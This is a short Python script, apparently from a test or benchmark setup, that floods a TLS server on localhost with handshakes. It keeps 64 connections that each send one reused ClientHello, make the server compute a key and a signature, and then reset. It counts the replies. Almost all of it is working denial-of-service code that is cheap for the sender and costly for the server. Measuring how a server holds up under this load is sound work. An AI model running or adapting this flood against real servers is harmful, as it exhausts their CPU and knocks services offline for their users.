"""A flood of handshakes that costs its sender little: see tls.sh.

tls_flood.py PORT SECONDS keeps 64 connections that each send the first message of a client, which is
the same for all, read the answer, for which the server computes a key and a signature, and reset.
Prints how many answers came.
"""

import select
import socket
import ssl
import sys
import time

PORT, SECONDS = int(sys.argv[1]), float(sys.argv[2])
CONNECTIONS = 64

context = ssl.create_default_context()
outgoing = ssl.MemoryBIO()
first = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
try:
    first.do_handshake()
except ssl.SSLWantReadError:
    pass
HELLO = outgoing.read()
RESET = b"\1\0\0\0\0\0\0\0"

poll = select.epoll()
open_ones = {}
answers = 0


def begin():
    tcp = socket.socket()
    tcp.connect(("127.0.0.1", PORT))
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    tcp.send(HELLO)
    open_ones[tcp.fileno()] = tcp
    poll.register(tcp, select.EPOLLIN)


for _ in range(CONNECTIONS):
    begin()
end = time.monotonic() + SECONDS
while time.monotonic() < end:
    for number, _ in poll.poll(0.1):
        tcp = open_ones.pop(number)
        answers += len(tcp.recv(8192)) > 7
        tcp.close()
        begin()
print(answers)
